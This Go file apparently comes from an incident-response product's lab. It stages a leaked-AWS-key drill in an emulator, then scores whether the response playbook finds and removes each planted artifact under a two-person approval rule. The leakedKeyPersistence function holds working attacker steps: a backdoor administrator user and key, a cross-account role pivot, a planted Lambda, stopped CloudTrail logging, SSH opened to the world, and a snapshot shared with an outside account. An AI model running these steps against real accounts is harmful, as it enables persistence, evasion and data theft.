package lab

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/credentials/stscreds"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	lambdatypes "github.com/aws/aws-sdk-go-v2/service/lambda/types"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/sts"

	"github.com/firebreak-ir/firebreak/controller/auth"
	"github.com/firebreak-ir/firebreak/controller/cases"
	"github.com/firebreak-ir/firebreak/controller/playbookrun"
	"github.com/firebreak-ir/firebreak/controller/store"
	"github.com/firebreak-ir/firebreak/internal/awsemu"
	"github.com/firebreak-ir/firebreak/internal/eradplan"
	"github.com/firebreak-ir/firebreak/internal/trailscope"
	operatorv1 "github.com/firebreak-ir/firebreak/proto/gen/firebreak/operator/v1"
)

func init() {
	register(&Scenario{Name: "leaked-key-persistence", Playbook: "iam-credential-compromise",
		Description: "a CI key leaks; the attacker makes a backdoor administrator, pivots into a second account and leaves a Lambda, " +
			"a key, a stopped trail, port 22 open to the world and a snapshot shared out; the playbook contains, scopes, plans, " +
			"and, after a second operator's approval, eradicates and verifies",
		seed: persistenceSeed, approve: true, setup: leakedKeyPersistence})
}

// The persistence drill's accounts, names and outside account.
const (
	persistenceRole     = "ops-cross"
	persistenceBackdoor = "svc-backup"
	persistenceFunction = "metrics-exporter"
	persistenceTrail    = "workload-trail"
	// outsideAccount is not in the organisation.
	outsideAccount = "999988887777"
	// reconCalls is how many read calls the attacker makes with the key.
	reconCalls = 300
)

func persistenceA() string { return awsemu.LabAccountID(2) }
func persistenceB() string { return awsemu.LabAccountID(3) }

// persistenceSeed is the lab organisation with a second member account B,
// a role there that the CI user of member A may assume (with what an
// operations role has), a trail logging B, and a CI user in A allowed to
// make users and keys: what the leaked key can do.
func persistenceSeed() *awsemu.Seed {
	seed := awsemu.Lab{Accounts: 4}.Seed()
	a, b := persistenceA(), persistenceB()
	for i := range seed.Accounts {
		acct := &seed.Accounts[i]
		switch acct.ID {
		case a:
			for j := range acct.Users {
				if acct.Users[j].Name == awsemu.LabCompromisedUser {
					acct.Users[j].InlinePolicies["provision"] = awsemu.PolicyText(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow",` +
						`"Action":["iam:CreateUser","iam:CreateAccessKey","iam:AttachUserPolicy","iam:List*","iam:Get*","sts:AssumeRole"],"Resource":"*"}]}`)
				}
			}
		case b:
			acct.Roles = append(acct.Roles, awsemu.RoleSeed{Name: persistenceRole, Description: "operations, from the CI account",
				TrustPolicy: awsemu.PolicyText(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::` + a +
					`:user/` + awsemu.LabCompromisedUser + `"},"Action":"sts:AssumeRole"}]}`),
				InlinePolicies: map[string]awsemu.PolicyText{"ops": `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["ec2:*","lambda:*",` +
					`"iam:CreateAccessKey","iam:PassRole","iam:List*","iam:Get*","cloudtrail:StopLogging","cloudtrail:DescribeTrails","cloudtrail:GetTrailStatus"],"Resource":"*"}]}`}})
			acct.Buckets = append(acct.Buckets, awsemu.BucketSeed{Name: "workload-trail-logs-" + b})
			acct.Resources[0].Trails = append(acct.Resources[0].Trails, awsemu.TrailSeed{Name: persistenceTrail, Bucket: "workload-trail-logs-" + b, MultiRegion: true})
		}
	}
	return seed
}

// attackerIn is an AWS config signing with the attacker's credentials.
func (e *Env) attackerIn(id, secret, token string) aws.Config {
	return aws.Config{Region: region, BaseEndpoint: aws.String(e.AWS.LocalEndpoint),
		Credentials: credentials.NewStaticCredentialsProvider(id, secret, token)}
}

// responderIn is an AWS config in an account as Firebreak's responder
// role there, reached as the controller reaches it: its user, the worker
// role, then the member's role with the external id. The drill reads what
// is left through it.
func (e *Env) responderIn(account string) (aws.Config, error) {
	key, err := e.AWS.ControllerKey()
	if err != nil {
		return aws.Config{}, err
	}
	base := aws.Config{Region: region, BaseEndpoint: aws.String(e.AWS.LocalEndpoint),
		Credentials: credentials.NewStaticCredentialsProvider(key.ID, key.Secret, "")}
	worker := base
	worker.Credentials = aws.NewCredentialsCache(stscreds.NewAssumeRoleProvider(sts.NewFromConfig(base),
		"arn:aws:iam::"+awsemu.LabAccountID(1)+":role/"+awsemu.LabWorkerRole, func(o *stscreds.AssumeRoleOptions) { o.RoleSessionName = "lab-drill" }))
	out := base
	out.Credentials = aws.NewCredentialsCache(stscreds.NewAssumeRoleProvider(sts.NewFromConfig(worker),
		"arn:aws:iam::"+account+":role/"+awsemu.LabResponderRole, func(o *stscreds.AssumeRoleOptions) {
			o.RoleSessionName, o.ExternalID = "lab-drill", aws.String(awsemu.LabExternalID)
		}))
	return out, nil
}

// persistenceAttack is what the attacker did, for the checks.
type persistenceAttack struct {
	leaked  awsemu.AccessKeySeed
	keys    map[string][2]string // the keys the attacker made: id → {secret, account}
	planted []PlantedArtifact
	group   string
	snap    string
}

// leakedKeyPersistence: with the leaked CI key of member A, the attacker
// makes a backdoor user with a key and AdministratorAccess, assumes a role
// into member B and there makes a Lambda function and a key, stops the
// trail, opens port 22 to the world and shares a snapshot out; then reads
// a few hundred things.
func leakedKeyPersistence(ctx context.Context, e *Env) (*attack, error) {
	a, b := persistenceA(), persistenceB()
	leaked, err := e.AWS.userKey(a, awsemu.LabCompromisedUser)
	if err != nil {
		return nil, err
	}
	at := &persistenceAttack{leaked: leaked, keys: map[string][2]string{}}
	plant := func(account, kind, id string) {
		at.planted = append(at.planted, PlantedArtifact{Account: account, Kind: kind, ID: id})
	}
	inA := e.attackerIn(leaked.ID, leaked.Secret, "")
	iamA := iam.NewFromConfig(inA)
	if _, err := iamA.CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String(persistenceBackdoor)}); err != nil {
		return nil, fmt.Errorf("attacker: CreateUser: %w", err)
	}
	plant(a, trailscope.KindUser, persistenceBackdoor)
	bk, err := iamA.CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: aws.String(persistenceBackdoor)})
	if err != nil {
		return nil, fmt.Errorf("attacker: CreateAccessKey: %w", err)
	}
	at.keys[aws.ToString(bk.AccessKey.AccessKeyId)] = [2]string{aws.ToString(bk.AccessKey.SecretAccessKey), a}
	plant(a, trailscope.KindAccessKey, aws.ToString(bk.AccessKey.AccessKeyId))
	if _, err := iamA.AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: aws.String(persistenceBackdoor),
		PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess")}); err != nil {
		return nil, fmt.Errorf("attacker: AttachUserPolicy: %w", err)
	}
	plant(a, trailscope.KindUserPolicy, persistenceBackdoor)
	e.say("attacker: in %s with key %s made user %s, its key %s and gave it AdministratorAccess", a, leaked.ID, persistenceBackdoor,
		aws.ToString(bk.AccessKey.AccessKeyId))

	hop, err := sts.NewFromConfig(inA).AssumeRole(ctx, &sts.AssumeRoleInput{RoleArn: aws.String("arn:aws:iam::" + b + ":role/" + persistenceRole),
		RoleSessionName: aws.String("maintenance")})
	if err != nil {
		return nil, fmt.Errorf("attacker: AssumeRole into %s: %w", b, err)
	}
	hc := hop.Credentials
	inB := e.attackerIn(aws.ToString(hc.AccessKeyId), aws.ToString(hc.SecretAccessKey), aws.ToString(hc.SessionToken))
	if _, err := lambda.NewFromConfig(inB).CreateFunction(ctx, &lambda.CreateFunctionInput{FunctionName: aws.String(persistenceFunction),
		Runtime: lambdatypes.RuntimePython312, Handler: aws.String("index.handler"), Role: aws.String("arn:aws:iam::" + b + ":role/order-processor-role"),
		Code: &lambdatypes.FunctionCode{ZipFile: []byte("PK\x05\x06" + strings.Repeat("\x00", 18))}}); err != nil {
		return nil, fmt.Errorf("attacker: CreateFunction in %s: %w", b, err)
	}
	plant(b, trailscope.KindFunction, persistenceFunction)
	bkB, err := iam.NewFromConfig(inB).CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: aws.String(awsemu.LabCompromisedUser)})
	if err != nil {
		return nil, fmt.Errorf("attacker: CreateAccessKey in %s: %w", b, err)
	}
	at.keys[aws.ToString(bkB.AccessKey.AccessKeyId)] = [2]string{aws.ToString(bkB.AccessKey.SecretAccessKey), b}
	plant(b, trailscope.KindAccessKey, aws.ToString(bkB.AccessKey.AccessKeyId))
	if _, err := cloudtrail.NewFromConfig(inB).StopLogging(ctx, &cloudtrail.StopLoggingInput{Name: aws.String(persistenceTrail)}); err != nil {
		return nil, fmt.Errorf("attacker: StopLogging in %s: %w", b, err)
	}
	plant(b, trailscope.KindTrailLogging, persistenceTrail)
	ec2B := ec2.NewFromConfig(inB)
	groups, err := ec2B.DescribeSecurityGroups(ctx, &ec2.DescribeSecurityGroupsInput{GroupNames: []string{"web"}})
	if err != nil || len(groups.SecurityGroups) == 0 {
		return nil, fmt.Errorf("attacker: DescribeSecurityGroups in %s: %v", b, err)
	}
	at.group = aws.ToString(groups.SecurityGroups[0].GroupId)
	if _, err := ec2B.AuthorizeSecurityGroupIngress(ctx, &ec2.AuthorizeSecurityGroupIngressInput{GroupId: aws.String(at.group),
		IpPermissions: []ec2types.IpPermission{{IpProtocol: aws.String("tcp"), FromPort: aws.Int32(22), ToPort: aws.Int32(22),
			IpRanges: []ec2types.IpRange{{CidrIp: aws.String("0.0.0.0/0")}}}}}); err != nil {
		return nil, fmt.Errorf("attacker: AuthorizeSecurityGroupIngress in %s: %w", b, err)
	}
	plant(b, trailscope.KindIngressRule, at.group)
	vols, err := ec2B.DescribeVolumes(ctx, &ec2.DescribeVolumesInput{})
	if err != nil || len(vols.Volumes) == 0 {
		return nil, fmt.Errorf("attacker: DescribeVolumes in %s: %v", b, err)
	}
	snap, err := ec2B.CreateSnapshot(ctx, &ec2.CreateSnapshotInput{VolumeId: vols.Volumes[0].VolumeId})
	if err != nil {
		return nil, fmt.Errorf("attacker: CreateSnapshot in %s: %w", b, err)
	}
	at.snap = aws.ToString(snap.SnapshotId)
	if _, err := ec2B.ModifySnapshotAttribute(ctx, &ec2.ModifySnapshotAttributeInput{SnapshotId: snap.SnapshotId,
		Attribute:              ec2types.SnapshotAttributeNameCreateVolumePermission,
		CreateVolumePermission: &ec2types.CreateVolumePermissionModifications{Add: []ec2types.CreateVolumePermission{{UserId: aws.String(outsideAccount)}}}}); err != nil {
		return nil, fmt.Errorf("attacker: ModifySnapshotAttribute in %s: %w", b, err)
	}
	plant(b, trailscope.KindSnapshotShare, at.snap)
	e.say("attacker: assumed %s into %s: made function %s and key %s, stopped trail %s, opened port 22 of %s to 0.0.0.0/0, shared snapshot %s with %s",
		persistenceRole, b, persistenceFunction, aws.ToString(bkB.AccessKey.AccessKeyId), persistenceTrail, at.group, at.snap, outsideAccount)

	s3A := s3.NewFromConfig(inA, func(o *s3.Options) { o.UsePathStyle = true })
	ec2A := ec2.NewFromConfig(inA)
	for i := range reconCalls / 3 {
		if _, err := iamA.ListUsers(ctx, &iam.ListUsersInput{}); err != nil {
			return nil, fmt.Errorf("attacker: reconnaissance call %d: %w", 3*i, err)
		}
		if _, err := ec2A.DescribeInstances(ctx, &ec2.DescribeInstancesInput{}); err != nil {
			return nil, fmt.Errorf("attacker: reconnaissance call %d: %w", 3*i+1, err)
		}
		if _, err := s3A.ListBuckets(ctx, &s3.ListBucketsInput{}); err != nil {
			return nil, fmt.Errorf("attacker: reconnaissance call %d: %w", 3*i+2, err)
		}
	}
	e.say("attacker: %d reconnaissance calls (ListUsers, DescribeInstances, ListBuckets) in %s", reconCalls, a)
	for id, k := range at.keys {
		if _, err := sts.NewFromConfig(e.attackerIn(id, k[0], "")).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{}); err != nil {
			return nil, fmt.Errorf("the attacker's key %s does not work before the drill: %w", id, err)
		}
	}

	event := leakedKeyFinding(leaked.ID, "CredentialAccess:IAMUser/AnomalousBehavior", "iam.amazonaws.com", "CreateUser")
	return &attack{event: event, verify: at.checks, eradication: at.score}, nil
}

// checks: the leaked key and every key the attacker made are refused, and
// the trail logs again.
func (at *persistenceAttack) checks(ctx context.Context, e *Env, run *playbookrun.Run) []Check {
	var checks []Check
	_, err := sts.NewFromConfig(e.attackerIn(at.leaked.ID, at.leaked.Secret, "")).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
	checks = append(checks, Check{Name: "the leaked key no longer works", OK: err != nil, Detail: fmt.Sprintf("GetCallerIdentity: %v", errText(err))})
	var refused, detail []string
	for id, k := range at.keys {
		_, err := sts.NewFromConfig(e.attackerIn(id, k[0], "")).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
		if err != nil {
			refused = append(refused, id)
		}
		detail = append(detail, fmt.Sprintf("%s (%s): %v", id, k[1], errText(err)))
	}
	slices.Sort(detail)
	checks = append(checks, Check{Name: "the attacker's created keys are refused", OK: len(refused) == len(at.keys),
		Detail: fmt.Sprintf("%d of %d refused: %s", len(refused), len(at.keys), strings.Join(detail, "; "))})
	on, why := e.trailLogging(ctx, persistenceB(), persistenceTrail)
	checks = append(checks, Check{Name: "CloudTrail logging back on", OK: on, Detail: why})
	return append(checks, e.approvalCheck(ctx, run))
}

// approvalCheck wants every run of the eradicate step approved on the
// case's timeline by the lab's second operator, one per account of the
// plan, and none by whom the playbook acts for.
func (e *Env) approvalCheck(ctx context.Context, run *playbookrun.Run) Check {
	c := Check{Name: "each account's eradication approved by a second operator"}
	tl, err := e.Controller.Cases.Timeline(ctx, run.CaseID)
	if err != nil {
		c.Detail = err.Error()
		return c
	}
	by := map[string]string{}
	for _, en := range tl {
		if en.Kind == cases.KindApproval && en.StepID == "eradicate" && en.PlaybookRunID == run.ID {
			by[en.RunID] = en.Actor + " " + en.Status
		}
	}
	var lines []string
	ok := len(by) > 0
	for id, who := range by {
		lines = append(lines, id+": "+who)
		ok = ok && who == Approver+" approved"
	}
	slices.Sort(lines)
	st := run.Step("eradicate")
	accounts := 0
	if st != nil {
		// The outputs are the operation's, or read back from the store.
		var runs []string
		if b, err := json.Marshal(st.Outputs["runs"]); err == nil && json.Unmarshal(b, &runs) == nil {
			accounts = len(runs)
		}
	}
	c.OK = ok && len(by) == accounts && run.OnBehalfOf() != Approver
	c.Detail = fmt.Sprintf("%d approved run(s) of %d, the playbook acting for %s: %s", len(by), accounts, run.OnBehalfOf(), orNone(lines))
	return c
}

// trailLogging reads a trail's status as the responder role of its
// account.
func (e *Env) trailLogging(ctx context.Context, account, trail string) (bool, string) {
	cfg, err := e.responderIn(account)
	if err != nil {
		return false, err.Error()
	}
	st, err := cloudtrail.NewFromConfig(cfg).GetTrailStatus(ctx, &cloudtrail.GetTrailStatusInput{Name: aws.String(trail)})
	if err != nil {
		return false, fmt.Sprintf("GetTrailStatus %s in %s: %v", trail, account, errText(err))
	}
	return aws.ToBool(st.IsLogging), fmt.Sprintf("trail %s in %s: IsLogging=%v", trail, account, aws.ToBool(st.IsLogging))
}

// score says, for each artifact planted, whether the case's scope found it
// and whether it is gone or can do nothing now (read from the emulator's
// state, not from Firebreak's own verdict), and the case's time to
// eradicate.
func (at *persistenceAttack) score(ctx context.Context, e *Env, caseID string) *Eradication {
	out := &Eradication{Planted: len(at.planted), Artifacts: []PlantedArtifact{}}
	var scoped []trailscope.Artifact
	if rep, err := e.Controller.Cases.Report(ctx, caseID); err == nil && rep.Scope != nil {
		scoped = rep.Scope.Artifacts
	}
	st := e.AWS.Emu.Dump()
	for _, p := range at.planted {
		p.Found = slices.ContainsFunc(scoped, func(s trailscope.Artifact) bool {
			return s.Account == p.Account && s.Kind == p.Kind && (s.ID == p.ID || strings.HasPrefix(s.ID, p.ID+" ") || strings.HasPrefix(s.ID, p.ID+":"))
		})
		p.Eradicated, p.State = e.eradicated(ctx, st, p)
		if p.Found {
			out.Found++
		}
		if p.Eradicated {
			out.Eradicated++
		}
		out.Artifacts = append(out.Artifacts, p)
	}
	if c, err := e.Controller.Cases.Get(ctx, caseID); err == nil {
		if d, ok := c.Timings.TimeToEradicate(); ok {
			out.TimeToEradicateMS = d.Milliseconds()
		}
	}
	return out
}

// eradicated reads one planted artifact's state now.
func (e *Env) eradicated(ctx context.Context, st *awsemu.State, p PlantedArtifact) (bool, string) {
	acct := st.Account(p.Account)
	if acct == nil {
		return false, "account " + p.Account + " is not in the emulator"
	}
	user := func(name string) *awsemu.UserState {
		for i := range acct.Users {
			if acct.Users[i].Name == name {
				return &acct.Users[i]
			}
		}
		return nil
	}
	rs := acct.Region(region)
	switch p.Kind {
	case trailscope.KindUser:
		u := user(p.ID)
		switch {
		case u == nil:
			return true, "deleted"
		case slices.Contains(u.AttachedPolicies, eradplan.DenyAllPolicyARN) && !slices.ContainsFunc(u.AccessKeys, func(k awsemu.AccessKeyState) bool { return k.Status == "Active" }):
			return true, "quarantined: AWSDenyAll attached, no active key"
		}
		return false, fmt.Sprintf("live: policies %v", u.AttachedPolicies)
	case trailscope.KindAccessKey:
		for _, u := range acct.Users {
			for _, k := range u.AccessKeys {
				if k.ID == p.ID {
					return k.Status != "Active", "key of " + u.Name + " is " + k.Status
				}
			}
		}
		return true, "deleted"
	case trailscope.KindUserPolicy:
		u := user(p.ID)
		if u == nil || !slices.Contains(u.AttachedPolicies, "arn:aws:iam::aws:policy/AdministratorAccess") {
			return true, "AdministratorAccess detached"
		}
		return false, "AdministratorAccess still attached to " + p.ID
	case trailscope.KindFunction:
		if rs != nil && slices.ContainsFunc(rs.Functions, func(f awsemu.FunctionState) bool { return f.Name == p.ID }) {
			return false, "function " + p.ID + " exists"
		}
		return true, "deleted"
	case trailscope.KindTrailLogging:
		return e.trailLogging(ctx, p.Account, p.ID)
	case trailscope.KindIngressRule:
		if rs != nil {
			for _, g := range rs.SecurityGroups {
				if g.ID == p.ID && slices.ContainsFunc(g.Ingress, func(r awsemu.RuleSeed) bool { return r.FromPort == 22 && r.CIDR == "0.0.0.0/0" }) {
					return false, "port 22 still open to 0.0.0.0/0 on " + p.ID
				}
			}
		}
		return true, "port 22 from 0.0.0.0/0 revoked"
	case trailscope.KindSnapshotShare:
		if rs != nil {
			for _, s := range rs.Snapshots {
				if s.ID == p.ID && slices.Contains(s.SharedWith, outsideAccount) {
					return false, "still shared with " + outsideAccount
				}
			}
		}
		return true, "no longer shared with " + outsideAccount
	}
	return false, "no check for " + p.Kind
}

// checks are the eradication's own: every artifact planted found and
// eradicated, and the case's time to eradicate recorded.
func (er *Eradication) checks() []Check {
	var missed, left []string
	for _, a := range er.Artifacts {
		if !a.Found {
			missed = append(missed, a.Account+" "+a.Kind+" "+a.ID)
		}
		if !a.Eradicated {
			left = append(left, a.Account+" "+a.Kind+" "+a.ID+": "+a.State)
		}
	}
	return []Check{
		{Name: "attacker artifacts found by the scope", OK: er.Found == er.Planted && er.Planted > 0,
			Detail: fmt.Sprintf("%d of %d planted; missed: %s", er.Found, er.Planted, orNone(missed))},
		{Name: "attacker artifacts eradicated", OK: er.Eradicated == er.Planted && er.Planted > 0,
			Detail: fmt.Sprintf("%d of %d; left: %s", er.Eradicated, er.Planted, orNone(left))},
		{Name: "time to eradicate recorded", OK: er.TimeToEradicateMS > 0,
			Detail: fmt.Sprintf("%.1fs from detection to the verified eradication", float64(er.TimeToEradicateMS)/1000)},
	}
}

func orNone(s []string) string {
	if len(s) == 0 {
		return "none"
	}
	return strings.Join(s, "; ")
}

// Approver is the lab's second operator: it approves what a playbook
// started by a rule or by another operator waits for.
const Approver = "lab-approver"

// approveSteps has the lab's second operator approve, through the approval
// RPC, each run of the playbook run's steps that waits for an approval,
// until ctx ends or the playbook run does. The two-person rule holds as
// for anyone: the approver is not who the playbook acts for.
func (e *Env) approveSteps(ctx context.Context, playbookRunID string) error {
	if _, err := e.Controller.Operator.AddOperator(e.admin, &operatorv1.AddOperatorRequest{Name: Approver,
		Role: operatorv1.OperatorRole_OPERATOR_ROLE_APPROVER}); err != nil && !strings.Contains(err.Error(), "exists") {
		return fmt.Errorf("adding the lab's approver: %w", err)
	}
	as := auth.WithOperator(ctx, &store.Operator{Name: Approver, Role: operatorv1.OperatorRole_OPERATOR_ROLE_APPROVER})
	var once sync.Once
	go func() {
		approved := map[string]bool{}
		tick := time.NewTicker(300 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-tick.C:
			}
			r, err := e.Controller.Playbooks.Get(ctx, playbookRunID)
			if err != nil || r.Status.Final() {
				return
			}
			for _, st := range r.Steps {
				if st.Status != playbookrun.StepAwaitingApproval || st.RunID == "" || approved[st.RunID] {
					continue
				}
				once.Do(func() {
					e.say("approver: %s approves the runs of step %s as they wait (two-person rule)", Approver, st.ID)
				})
				if _, err := e.Controller.Operator.ApproveRun(as, &operatorv1.ApproveRunRequest{RunId: st.RunID,
					Comment: "lab drill: the second operator approves the eradication after its dry run"}); err != nil {
					e.say("approver: approving run %s of step %s: %v", st.RunID, st.ID, err)
					continue
				}
				approved[st.RunID] = true
				e.say("approver: %s approved run %s of step %s", Approver, st.RunID, st.ID)
			}
		}
	}()
	return nil
}
